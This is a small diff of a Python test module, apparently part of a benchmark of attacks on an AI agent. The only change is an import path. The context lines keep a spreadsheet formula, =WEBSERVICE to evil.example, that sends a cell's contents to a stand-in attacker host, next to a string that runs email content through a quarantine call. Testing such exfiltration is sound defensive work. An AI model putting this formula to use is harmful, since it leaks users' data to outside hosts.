@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from tests.attacks.world import Home, Person, rules, says, statuses
+from bench.home.world import Home, Person, rules, says, statuses
 
 FORMULA = '=WEBSERVICE("http://evil.example/?"&A1)'
 WRITE = 'name = quarantined("Who?", search_emails()[0].body)\n'
